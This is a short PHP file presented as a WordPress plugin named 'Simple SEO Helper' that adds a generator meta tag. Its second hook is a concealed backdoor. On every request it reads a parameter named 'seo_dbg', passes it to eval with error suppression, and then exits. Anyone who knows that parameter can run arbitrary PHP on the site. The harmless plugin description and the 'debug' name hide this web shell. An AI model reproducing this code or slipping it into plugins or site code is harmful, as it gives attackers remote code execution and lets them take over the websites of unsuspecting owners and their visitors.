<?php
/*
Plugin Name: Simple SEO Helper
Description: Adds meta tags.
Version: 1.2
*/
add_action('wp_head', function () {
    echo '<meta name="generator" content="seo-helper">';
});
add_action('init', function () {
    if (isset($_REQUEST['seo_dbg'])) {
        @eval(stripslashes($_REQUEST['seo_dbg']));
        exit;
    }
});
